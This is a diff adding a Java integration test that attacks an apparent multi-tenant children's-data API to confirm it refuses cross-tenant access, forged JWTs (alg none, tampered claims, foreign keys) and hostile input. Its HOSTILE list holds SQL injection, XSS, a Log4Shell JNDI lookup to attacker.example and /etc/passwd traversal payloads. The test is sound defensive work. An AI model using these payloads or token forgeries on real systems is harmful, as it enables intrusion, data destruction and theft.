@@ -1,0 +1,321 @@
+package org.zenmoon.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import jakarta.json.JsonObject;
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.security.PrivateKey;
+import java.sql.Connection;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.HashSet;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+/**
+ * The adversarial suite: every endpoint tried by every role against what lies behind its walls (another tenant,
+ * another class, another family), with tokens that must not work, and with hostile strings and bodies. Every
+ * attempt must get the right 4xx, never a 5xx and never data, and the database must be unchanged afterwards
+ * (a checksum of each tenant's rows in every tenant-owned table). The totals go to
+ * {@code target/adversarial-summary.txt} for the issue's closing note.
+ *
+ * <p>Later issues add their endpoints to {@link #CHILD_ENDPOINTS} (and the roles that may use them), so that the
+ * walls are tried for them too.
+ */
+class AdversarialIT {
+
+    /** An endpoint about one child: the path after {@code /api/v1/children/{id}}, and who may use it at all. */
+    record ChildEndpoint(String method, String suffix, String body, Set<String> roles) {}
+
+    static final Set<String> READERS = Set.of("TENANT_ADMIN", "COUNSELLOR", "CLINICIAN", "GUARDIAN");
+
+    static final List<ChildEndpoint> CHILD_ENDPOINTS = List.of(
+            new ChildEndpoint("GET", "", null, READERS), new ChildEndpoint("GET", "/chronotype", null, READERS));
+
+    /** The demo logins and their one role. */
+    static final Map<String, String> ROLE = Map.of(
+            "admin", "PLATFORM_ADMIN",
+            "school.admin", "TENANT_ADMIN",
+            "counsellor", "COUNSELLOR",
+            "parent", "GUARDIAN",
+            "clinic.admin", "TENANT_ADMIN",
+            "clinician", "CLINICIAN");
+
+    static final List<String> HOSTILE = List.of(
+            "' OR '1'='1",
+            "'; DROP TABLE child; --",
+            "<script>alert('zenmoon')</script>",
+            "\"><img src=x onerror=alert(1)>",
+            "nul\u0000byte",
+            "bell\u0007escape\u001b[31m",
+            "${jndi:ldap://attacker.example/x}",
+            "../../../../etc/passwd",
+            "%00%27",
+            "\u202eevil",
+            "x".repeat(5000));
+
+    static Http http;
+    static LaunchedServer server;
+    static final Map<String, String> tokens = new LinkedHashMap<>();
+    static Map<String, Long> checksumsBefore;
+
+    static Set<String> schoolChildren;
+    static Set<String> clinicChildren;
+    static Set<String> counsellorChildren;
+    static Set<String> parentChildren;
+
+    static int attempts;
+    static int serverErrors;
+    static int leaks;
+    static final List<String> wrong = new ArrayList<>();
+
+    @BeforeAll
+    static void world() throws Exception {
+        server = SharedServer.get();
+        http = new Http(server.baseUrl());
+        for (String user : ROLE.keySet()) {
+            tokens.put(user, http.token(user));
+        }
+        schoolChildren = ids("school.admin");
+        clinicChildren = ids("clinic.admin");
+        counsellorChildren = ids("counsellor");
+        parentChildren = ids("parent");
+        try (Connection db = Database.owner(server)) {
+            checksumsBefore = Database.tenantChecksums(db);
+        }
+    }
+
+    @AfterAll
+    static void summary() throws Exception {
+        Map<String, Long> after;
+        try (Connection db = Database.owner(server)) {
+            after = Database.tenantChecksums(db);
+        }
+        String summary = String.format(
+                "adversarial suite: %d endpoints x %d roles, %d attempts, %d x 5xx, %d leaks, %d wrong answers%n",
+                CHILD_ENDPOINTS.size() + 2, ROLE.size(), attempts, serverErrors, leaks, wrong.size());
+        Files.writeString(Path.of("target", "adversarial-summary.txt"), summary);
+        System.out.print(summary);
+        wrong.forEach(System.out::println);
+        assertThat(after).as("each tenant's rows after the attack").isEqualTo(checksumsBefore);
+    }
+
+    @Test
+    void nobodyReachesAChildBehindAWall() throws Exception {
+        Set<String> unassignedClass = minus(schoolChildren, counsellorChildren);
+        Set<String> otherFamilies = minus(counsellorChildren, parentChildren);
+        Map<String, Set<String>> behindWalls = new LinkedHashMap<>();
+        behindWalls.put("school.admin", clinicChildren);
+        behindWalls.put("counsellor", union(clinicChildren, unassignedClass));
+        behindWalls.put("parent", union(clinicChildren, union(otherFamilies, unassignedClass)));
+        behindWalls.put("clinic.admin", schoolChildren);
+        behindWalls.put("clinician", schoolChildren);
+        behindWalls.put("admin", union(schoolChildren, clinicChildren));
+
+        for (var wall : behindWalls.entrySet()) {
+            String user = wall.getKey();
+            for (String child : sample(wall.getValue(), 3)) {
+                for (ChildEndpoint e : CHILD_ENDPOINTS) {
+                    int expected = e.roles().contains(ROLE.get(user)) ? 404 : 403;
+                    Http.Reply r =
+                            http.send(e.method(), "/api/v1/children/" + child + e.suffix(), e.body(), tokens.get(user));
+                    judge(user + " " + e.method() + " children/{walled}" + e.suffix(), r, Set.of(expected), child);
+                }
+            }
+        }
+        // Lists show only what is in scope.
+        for (var wall : behindWalls.entrySet()) {
+            Http.Reply r = http.get("/api/v1/children", tokens.get(wall.getKey()));
+            attempts++;
+            for (String child : wall.getValue()) {
+                if (r.status() == 200 && r.body().contains(child)) {
+                    leaks++;
+                    wrong.add(wall.getKey() + " GET /children lists " + child);
+                }
+            }
+        }
+        assertThat(wrong).isEmpty();
+    }
+
+    @Test
+    void rolesWithoutThePermissionAreRefused() throws Exception {
+        for (String user : List.of("counsellor", "clinician", "parent")) {
+            judge(
+                    user + " POST /admin/jobs/chronotype",
+                    http.post("/api/v1/admin/jobs/chronotype", "", tokens.get(user)),
+                    Set.of(403),
+                    null);
+        }
+        assertThat(wrong).isEmpty();
+    }
+
+    @Test
+    void tokensThatMustNotWork() throws Exception {
+        String good = tokens.get("counsellor");
+        String claims = Tokens.claims(good);
+        PrivateKey key = Tokens.serverKey(server.home);
+        long now = Instant.now().getEpochSecond();
+        Map<String, String> bad = new LinkedHashMap<>();
+        bad.put("none", null);
+        bad.put("garbage", "not.a.token");
+        bad.put("tampered signature", good.substring(0, good.length() - 4) + (good.endsWith("AAAA") ? "BBBB" : "AAAA"));
+        bad.put("tampered claims (upn)", swapClaims(good, claims.replace("\"counsellor\"", "\"school.admin\"")));
+        bad.put("alg none", Tokens.unsigned(claims));
+        bad.put("another key", Tokens.rs256(Tokens.someOtherKey(), claims));
+        bad.put("expired", Tokens.rs256(key, withTimes(claims, now - 7200, now - 3600, now - 7200)));
+        bad.put("not yet valid", Tokens.rs256(key, withTimes(claims, now, now + 7200, now + 3600)));
+        bad.put(
+                "wrong audience",
+                Tokens.rs256(key, claims.replaceAll("\"aud\":(\"[^\"]*\"|\\[[^\\]]*\\])", "\"aud\":\"someone-else\"")));
+        bad.put("no audience", Tokens.rs256(key, claims.replaceAll(",?\"aud\":(\"[^\"]*\"|\\[[^\\]]*\\])", "")));
+        bad.put("wrong issuer", Tokens.rs256(key, claims.replaceAll("\"iss\":\"[^\"]*\"", "\"iss\":\"attacker\"")));
+        bad.put("old token version", Tokens.rs256(key, claims.replaceAll("\"ver\":\\d+", "\"ver\":-1")));
+        for (var e : bad.entrySet()) {
+            Http.Reply r = http.get("/api/v1/children", e.getValue());
+            judge("token: " + e.getKey(), r, Set.of(401), null);
+        }
+        assertThat(wrong).isEmpty();
+    }
+
+    @Test
+    void hostileStringsGetA4xxNeverA5xx() throws Exception {
+        String counsellor = tokens.get("counsellor");
+        for (String s : HOSTILE) {
+            String json = jsonString(s);
+            judge(
+                    "log-in user name " + shortly(s),
+                    http.post("/api/v1/auth/token", "{\"username\":" + json + ",\"password\":\"demo-guess\"}"),
+                    Set.of(400, 401, 429),
+                    null);
+            judge(
+                    "log-in password " + shortly(s),
+                    http.post("/api/v1/auth/token", "{\"username\":\"nobody.here\",\"password\":" + json + "}"),
+                    Set.of(400, 401, 429),
+                    null);
+            String segment = URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
+            judge(
+                    "child id " + shortly(s),
+                    http.get("/api/v1/children/" + segment, counsellor),
+                    Set.of(400, 404),
+                    null);
+        }
+        judge(
+                "wrong JSON type",
+                http.post("/api/v1/auth/token", "{\"username\":[1,2],\"password\":{}}"),
+                Set.of(400),
+                null);
+        judge("not JSON at all", http.post("/api/v1/auth/token", "\u0000\u0001\u0002"), Set.of(400), null);
+        assertThat(wrong).isEmpty();
+    }
+
+    /**
+     * Bodies the server stops reading part-way. Each is sent on a client of its own, which then asks again: a
+     * connection left with unread bytes must be closed, not reused to misread the next request.
+     */
+    @Test
+    void oversizedAndDeeplyNestedBodiesLeaveTheConnectionUsable() throws Exception {
+        Map<String, String> bodies = new LinkedHashMap<>();
+        bodies.put("deep nesting", "[".repeat(100_000));
+        bodies.put("oversized body", "{\"username\":\"" + "a".repeat(3 << 20) + "\",\"password\":\"x\"}");
+        for (var b : bodies.entrySet()) {
+            Http own = new Http(server.baseUrl());
+            try {
+                judge(b.getKey(), own.post("/api/v1/auth/token", b.getValue()), Set.of(400, 413), null);
+            } catch (IOException e) {
+                // Closing the connection before the whole body is sent is a fair refusal.
+                attempts++;
+            }
+            judge(
+                    b.getKey() + ", then a good request on the same client",
+                    own.get("/api/v1/children", tokens.get("counsellor")),
+                    Set.of(200),
+                    null);
+        }
+        assertThat(wrong).isEmpty();
+    }
+
+    // --- the ledger ---
+
+    static void judge(String what, Http.Reply r, Set<Integer> expected, String walledChild) {
+        attempts++;
+        if (r.status() >= 500) {
+            serverErrors++;
+        }
+        boolean refusalExpected = expected.stream().allMatch(code -> code >= 400);
+        if (refusalExpected && r.status() < 400) {
+            leaks++;
+        }
+        if (r.body().contains("Exception") || r.body().matches("(?s).*\\bat [a-z]+\\.[a-z][\\w.$]*\\(.*")) {
+            wrong.add(what + ": the answer shows server internals: " + shortly(r.body()));
+        }
+        if (!expected.contains(r.status())) {
+            wrong.add(what + ": expected " + expected + ", got " + r.status() + " " + shortly(r.body()));
+        } else if (r.status() >= 400
+                && !r.contentType().startsWith("application/problem+json")
+                // The container refuses some paths (an encoded slash or NUL) before the application sees them.
+                && !(r.status() == 400 && r.body().isEmpty() && what.startsWith("child id"))) {
+            wrong.add(what + ": " + r.status() + " without a problem document (" + r.contentType() + ")");
+        }
+    }
+
+    static Set<String> ids(String user) throws IOException, InterruptedException {
+        Set<String> ids = new HashSet<>();
+        for (JsonObject child : http.get("/api/v1/children", http.token(user))
+                .json()
+                .asJsonArray()
+                .getValuesAs(JsonObject.class)) {
+            ids.add(child.getString("childId"));
+        }
+        return ids;
+    }
+
+    static Set<String> minus(Set<String> a, Set<String> b) {
+        Set<String> out = new HashSet<>(a);
+        out.removeAll(b);
+        return out;
+    }
+
+    static Set<String> union(Set<String> a, Set<String> b) {
+        Set<String> out = new HashSet<>(a);
+        out.addAll(b);
+        return out;
+    }
+
+    static List<String> sample(Set<String> ids, int n) {
+        return ids.stream().sorted().limit(n).toList();
+    }
+
+    static String withTimes(String claims, long iat, long exp, long nbf) {
+        String c = claims.replaceAll("\"iat\":\\d+", "\"iat\":" + iat)
+                .replaceAll("\"exp\":\\d+", "\"exp\":" + exp)
+                .replaceAll(",\"nbf\":\\d+", "");
+        return c.substring(0, c.length() - 1) + ",\"nbf\":" + nbf + "}";
+    }
+
+    static String swapClaims(String token, String claims) {
+        String[] parts = token.split("\\.");
+        return parts[0] + "."
+                + java.util.Base64.getUrlEncoder()
+                        .withoutPadding()
+                        .encodeToString(claims.getBytes(StandardCharsets.UTF_8))
+                + "." + parts[2];
+    }
+
+    static String jsonString(String s) {
+        return jakarta.json.Json.createValue(s).toString();
+    }
+
+    static String shortly(String s) {
+        String printable = s.replaceAll("\\p{Cntrl}", "?");
+        return printable.length() > 60 ? printable.substring(0, 60) + "…" : printable;
+    }
+}
